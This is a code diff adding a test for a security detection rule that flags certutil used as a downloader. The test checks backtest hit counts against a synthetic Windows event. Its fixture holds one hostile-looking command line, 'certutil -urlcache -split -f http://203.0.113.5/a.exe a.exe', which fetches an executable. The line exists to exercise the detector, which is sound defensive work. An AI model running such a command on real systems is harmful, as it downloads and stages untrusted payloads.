@@ -31,6 +31,7 @@ from storage.schema import EventBatch
 from storage.settings import Settings
 from storage.tenant import Actor, Role, Scope
 from tests.detectors.streams import START_US, frame_of
+from tests.shared import ROOT
 
 RULE = """title: Odd tool
 id: 11111111-2222-4333-8444-00000000000a
@@ -111,6 +112,33 @@ def test_a_correlation_counts_its_matches_and_not_its_parts(house: House) -> Non
     assert "Odd tool three times on one host" in titles
     alone = backtest(house, ACME, RULE, START_US - DAY_US, UNTIL_US)
     assert told["hits"] == alone["hits"] + 1
+
+
+def test_a_rule_of_the_house_is_run_once_and_not_beside_itself(house: House) -> None:
+    file = ROOT / "detectors" / "rules" / "process" / "certutil_as_downloader.yml"
+    hits = backtest(house, ACME, file.read_text(), START_US - DAY_US, UNTIL_US)["hits"]
+    assert hits == 0
+    batch = EventBatch.of(certutil())
+    files = house.lake.write(batch, "events", 9, 0, len(batch) - 1)
+    with house.database.writer() as tx:
+        insert_lake_files(tx, files)
+    assert backtest(house, ACME, file.read_text(), START_US - DAY_US, UNTIL_US)["hits"] == 1
+
+
+def certutil() -> pl.DataFrame:
+    """Give one download by certutil."""
+    row = {
+        "tenant_id": "acme",
+        "time_us": START_US,
+        "class_uid": 1007,
+        "activity_id": 1,
+        "metadata.product.name": "windows",
+        "metadata.log_format": "sample",
+        "device.hostname": "pc1",
+        "process.file.path": "C:\\Windows\\System32\\certutil.exe",
+        "process.cmd_line": "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
+    }
+    return frame_of([row])
 
 
 def test_a_filter_tells_what_it_takes_away(house: House) -> None:
